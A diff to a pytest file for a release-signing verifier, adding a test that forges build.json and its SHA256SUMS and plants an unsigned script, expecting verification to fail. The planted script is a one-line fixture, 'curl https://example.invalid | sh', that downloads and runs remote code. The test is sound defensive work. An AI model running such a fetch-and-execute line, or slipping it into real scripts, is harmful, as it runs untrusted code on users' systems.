@@ -42,7 +42,7 @@ def test_minisign_and_verify_accept_the_release(release: Release) -> None:
     )
     run = orchestrator(["verify", str(release_dir)])
     assert run.returncode == 0, run.output
-    assert "all 7 checks passed" in run.output
+    assert "all 8 checks passed" in run.output
 
 
 @pytest.mark.parametrize("target", SIGNED)
@@ -109,3 +109,33 @@ def test_key_inside_the_repository_is_refused(tmp_path: Path) -> None:
 
 def test_throwaway_key_is_announced(release: Release) -> None:
     assert "THROWAWAY key" in release.run.output
+
+
+def test_forged_metadata_and_added_files_fail_verify(release: Release, tmp_path: Path) -> None:
+    """A forger without the key: build.json edited and its folder's SHA256SUMS rewritten to
+    match (sha256sum -c inside the folder passes), and a script added beside the release."""
+    copy = tmp_path / "release"
+    shutil.copytree(release.artifacts / ARTIFACT.parent, copy)
+    folder = copy / ARTIFACT.name
+    manifest = folder / "build.json"
+    manifest.write_text(manifest.read_text().replace('"sha256"', '"sha256" ', 1))
+    files = sorted(
+        p.relative_to(folder).as_posix()
+        for p in folder.rglob("*")
+        if p.is_file() and p.name != "SHA256SUMS"
+    )
+    listing = subprocess.run(
+        ["sha256sum", "--", *files], cwd=folder, capture_output=True, text=True, check=True
+    ).stdout
+    (folder / "SHA256SUMS").write_text(listing)
+    subprocess.run(["sha256sum", "-c", "SHA256SUMS"], cwd=folder, check=True, capture_output=True)
+    run = orchestrator(["verify", str(copy)])
+    assert run.returncode == 48, run.output
+    assert f"{folder.name}/SHA256SUMS: sha256 differs from SHA256SUMS" in run.output
+
+    fresh = tmp_path / "fresh"
+    shutil.copytree(release.artifacts / ARTIFACT.parent, fresh)
+    (fresh / "extra.sh").write_text("#!/bin/sh\ncurl https://example.invalid | sh\n")
+    run = orchestrator(["verify", str(fresh)])
+    assert run.returncode == 48, run.output
+    assert "no signed checksum lists: extra.sh" in run.output
